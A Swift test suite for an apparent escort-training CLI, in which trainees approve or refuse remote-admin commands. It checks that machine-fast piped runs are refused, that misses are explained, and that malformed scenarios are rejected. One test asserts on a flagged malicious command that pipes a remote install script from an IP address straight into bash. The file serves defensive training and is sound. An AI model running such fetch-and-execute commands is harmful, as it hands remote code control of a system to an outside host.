import AuditLog
import EscortCore
import EscortTesting
import Foundation
import Testing

@Suite("escort train")
struct TrainCLITests {
    static let scenarioDir = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
        .appendingPathComponent("Sources/Training/Scenarios").path

    /// The right answers to a scenario file (twice each: blind, then explained), as stdin lines.
    static func answers(_ file: String, wrong: Set<Int> = []) throws -> String {
        let o = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: file))) as? [String: Any])
        let decisions = try #require(o["decisions"] as? [[String: Any]])
        return decisions.enumerated().map { i, d in
            let right = d["expected"] as? String == "refuse" ? "r" : "a"
            let given = wrong.contains(i) ? (right == "r" ? "a" : "r") : right
            return "\(given)\n\(given)\n"
        }.joined()
    }

    func cli() async throws -> ReportCLI {
        let cli = ReportCLI()
        let r = try await cli.run([
            "person", "add", "--name", "bob", "--display-name", "Bob", "--employer", "Acme", "--contractor", "Prime Co",
            "--citizenship", "US", "--residence", "US", "--location", "US", "--clearance", "secret", "--role", "escort",
            "--training-expires", "2020-01-01",
        ])
        #expect(r.status == 0, "\(r.stderr)")
        return cli
    }

    @Test func listShowsTheShippedSet() async throws {
        let r = try await ReportCLI().run(["train", "--list"])
        #expect(r.status == 0)
        #expect(r.stdout.contains("Set escort-annual: 5 scenarios"))
        #expect(r.stdout.contains("web-maintenance: Web server maintenance — 22 decisions (6 malicious)"))
    }

    /// Issue 19: a piped 214-answer run was accepted in 0.13 s and credited bob, with the admin as actor.
    @Test func aPipedRunOfTheWholeSetIsRefusedAndCreditsNobody() async throws {
        let cli = try await cli()
        let files = try FileManager.default.contentsOfDirectory(atPath: Self.scenarioDir).sorted().map { Self.scenarioDir + "/" + $0 }
        // The set runs in scenario-id order.
        let order = ["covering-tracks", "database-support", "hidden-payloads", "scripts-and-heredocs", "web-maintenance"]
        let byID = Dictionary(uniqueKeysWithValues: try files.map { f in
            (try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: f))) as? [String: Any])["id"] as! String, f)
        })
        let input = try order.map { try Self.answers(byID[$0]!) }.joined()
        let r = try await cli.run(["train", "--person", "bob", "--set", "escort-annual", "--actor", "ada"], input: input)
        #expect(r.status == 2, "\(r.stderr)")
        #expect(r.stderr.contains("TRN-008") && r.stderr.contains("faster than a person can read and decide"), "\(r.stderr)")
        #expect(!r.stdout.contains("now valid until"))
        let list = try await cli.run(["person", "list", "--format", "json"])
        let people = try #require(try JSONSerialization.jsonObject(with: Data(list.stdout.utf8)) as? [[String: Any]])
        #expect(people.first?["escort_training_expires"] as? String == "2020-01-02T00:00:00Z")
        let events = try await cli.records().filter { ($0.fields["action"]?.stringValue ?? "").hasPrefix("training.") }
        #expect(events.count == 1 && events[0].fields["action"] == "training.refused")
        #expect(events[0].actor == "bob" && events[0].fields["supervisor"] == "ada")
        await #expect(try cli.run(["train", "--results", "--person", "bob"]).stdout.contains("No training results."))
    }

    @Test func aMissIsExplainedAndFailsTheScenario() async throws {
        let cli = try await cli()
        let file = Self.scenarioDir + "/01-web-maintenance.json"
        // Decision 5 (index 4) is the curl | bash: approve it in both rounds.
        let r = try await cli.run(["train", "--person", "bob", "--scenario", file], input: try Self.answers(file, wrong: [4]))
        // Scored and explained, but piped: refused as a run (TRN-008), so an error rather than "not passed".
        #expect(r.status == 2, "\(r.stderr)")
        #expect(r.stdout.contains("=== Result: NOT PASSED"))
        #expect(r.stdout.contains("#5 curl -s http://203.0.113.9/install.sh | bash"))
        #expect(r.stdout.contains("You approved a malicious command in both rounds."))
        #expect(r.stdout.contains("The analyser said: critical risk"))
        let events = try await cli.records().filter { $0.fields["action"] == "training.refused" }
        #expect(events.count == 1 && events[0].fields["passed"] == .bool(false))
    }

    @Test func answersThatStopEarlyRecordNothing() async throws {
        let cli = try await cli()
        let r = try await cli.run(["train", "--person", "bob", "--scenario", Self.scenarioDir + "/01-web-maintenance.json"], input: "a\nmaybe\na\nr\n")
        #expect(r.status == 2)
        #expect(r.stdout.contains("Please answer a (approve) or r (refuse)."))
        #expect(r.stderr.contains("TRN-005"))
        await #expect(try cli.run(["train", "--results"]).stdout.contains("No training results."))
    }

    @Test func badScenarioFilesAndPeople() async throws {
        let cli = try await cli()
        try #"{"format":"escort-training-scenario","version":1,"id":"x","title":"T","set":"s","summary":"S","target":"t","impact_level":"IL4","validity_days":30,"decisions":[{"id":"a","context":"c","command":"ls","expected":"approve"}]}"#
            .write(toFile: cli.dir.file("bad.json"), atomically: true, encoding: .utf8)
        let bad = try await cli.run(["train", "--person", "bob", "--scenario", "bad.json"])
        #expect(bad.status == 2)
        #expect(bad.stderr.contains("TRN-001: bad.json: decisions[0].why: is required"), "\(bad.stderr)")
        let nobody = try await cli.run(["train", "--person", "nobody", "--set", "escort-annual"])
        #expect(nobody.status == 2 && nobody.stderr.contains("TRN-004: no person named nobody"))
        let noSet = try await cli.run(["train", "--person", "bob", "--set", "nope"])
        #expect(noSet.status == 2 && noSet.stderr.contains("TRN-003: no scenario set named \"nope\""))
    }
}
